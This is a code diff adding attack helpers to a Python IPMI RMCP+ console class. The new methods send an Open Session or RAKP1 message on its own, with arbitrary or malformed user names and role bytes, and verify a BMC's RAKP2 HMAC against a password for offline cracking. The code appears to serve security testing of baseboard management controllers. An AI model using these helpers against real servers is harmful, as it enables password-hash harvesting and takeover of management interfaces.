@@ -154,6 +154,36 @@ class Console:
             raise RmcpError("RAKP4 integrity check value mismatch")
         return self
 
+    # ---- one step at a time, for attacks ----
+
+    def open_only(self, max_priv=0):
+        """Open Session alone: (status, maximum privilege, BMC session ID)."""
+        self.send(self.open_session_request(max_priv=max_priv))
+        rsp = self._presession_rsp(PT_OPEN_RSP)
+        (sid,) = struct.unpack_from("<I", rsp, 8)
+        return rsp[1], rsp[2], sid
+
+    def rakp1_only(self, bmc_sid, user=None, role=None, ulen=None, rm=None):
+        """RAKP1 alone (any name, role byte and name length, even wrong
+        ones): the RAKP2 payload."""
+        user = self.user if user is None else user
+        role = self.role if role is None else role
+        self.rm = os.urandom(16) if rm is None else rm
+        self.tag = (self.tag + 1) & 0xFF
+        rakp1 = bytes([self.tag, 0, 0, 0]) + struct.pack("<I", bmc_sid) + self.rm
+        rakp1 += bytes([role, 0, 0, len(user) if ulen is None else ulen]) + user
+        self.send(self.presession(PT_RAKP1, rakp1))
+        return self._presession_rsp(PT_RAKP2)
+
+    def rakp2_hmac_valid(self, bmc_sid, rakp2, role=None):
+        """Whether a RAKP2's HMAC is the one this console's password
+        gives: what an offline cracker would confirm a guess with."""
+        role = self.role if role is None else role
+        rc, guid, code = rakp2[8:24], rakp2[24:40], rakp2[40:]
+        sids = struct.pack("<II", self.console_sid, bmc_sid)
+        want = self._hmac(self.kuid, sids + self.rm + rc + guid + bytes([role, len(self.user)]) + self.user)
+        return hmac.compare_digest(code, want)
+
     # ---- in-session messages ----
 
     # ---- framing of any payload type ----
